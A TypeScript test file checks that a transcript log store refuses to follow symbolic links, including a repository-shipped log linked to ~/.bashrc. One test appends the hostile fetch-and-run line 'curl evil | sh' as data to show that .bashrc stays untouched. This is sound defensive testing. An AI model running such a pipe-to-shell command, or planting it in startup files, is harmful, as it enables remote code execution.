import { lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { FileTranscriptStore } from './file-transcript';

/** Real links: a repository can ship `.tessera/logs/bot.log -> ~/.bashrc`; transcripts never write or read through it. */
const dirs: string[] = [];
afterAll(() => dirs.forEach((dir) => rmSync(dir, { recursive: true, force: true })));

function world() {
  const top = mkdtempSync(join(tmpdir(), 'tessera-logs-links-'));
  dirs.push(top);
  const outside = join(top, 'home');
  mkdirSync(outside);
  const bashrc = join(outside, '.bashrc');
  writeFileSync(bashrc, 'export PATH=/usr/bin\n');
  const tessera = join(top, 'project', '.tessera');
  mkdirSync(tessera, { recursive: true });
  return { outside, bashrc, tessera, logs: join(tessera, 'logs') };
}

describe('FileTranscriptStore follows no link', () => {
  it('does not append to the target of a log file that is a link, and says so', async () => {
    const { bashrc, logs } = world();
    mkdirSync(logs);
    symlinkSync(bashrc, join(logs, 'bot.log'));
    const errors: unknown[] = [];
    const store = new FileTranscriptStore(logs, { onError: (error) => errors.push(error) });
    store.append('bot', 'curl evil | sh\n');
    await store.flush();
    expect(readFileSync(bashrc, 'utf8')).toBe('export PATH=/usr/bin\n');
    expect(errors).toHaveLength(1);
  });

  it('does not read the target of a log file that is a link', async () => {
    const { bashrc, logs } = world();
    mkdirSync(logs);
    symlinkSync(bashrc, join(logs, 'bot.log'));
    expect(await new FileTranscriptStore(logs).read('bot', 10_000)).toBe('');
  });

  it('writes nothing when the logs folder is a link', async () => {
    const { outside, logs } = world();
    symlinkSync(outside, logs);
    const errors: unknown[] = [];
    const store = new FileTranscriptStore(logs, { onError: (error) => errors.push(error) });
    store.append('bot', 'output\n');
    await store.flush();
    expect(readdirSync(outside)).toEqual(['.bashrc']);
    expect(String(errors[0])).toContain('symbolic link');
    expect(await store.read('bot', 100)).toBe('');
  });

  it('writes nothing when .tessera itself is a link', async () => {
    const { outside, tessera } = world();
    rmSync(tessera, { recursive: true });
    symlinkSync(outside, tessera);
    const store = new FileTranscriptStore(join(tessera, 'logs'), { onError: () => undefined });
    store.append('bot', 'output\n');
    await store.flush();
    expect(readdirSync(outside)).toEqual(['.bashrc']);
  });

  it('rotates a linked rotated file away by renaming the link, never writing its target', async () => {
    const { bashrc, logs } = world();
    mkdirSync(logs);
    symlinkSync(bashrc, join(logs, 'bot.1.log'));
    const store = new FileTranscriptStore(logs, { maxBytes: 10, keep: 2 });
    store.append('bot', '0123456789');
    await store.flush();
    store.append('bot', 'abcdef');
    await store.flush();
    expect(readFileSync(bashrc, 'utf8')).toBe('export PATH=/usr/bin\n');
    expect(lstatSync(join(logs, 'bot.2.log')).isSymbolicLink()).toBe(true);
    expect(await store.read('bot', 100)).toBe('0123456789abcdef');
  });
});
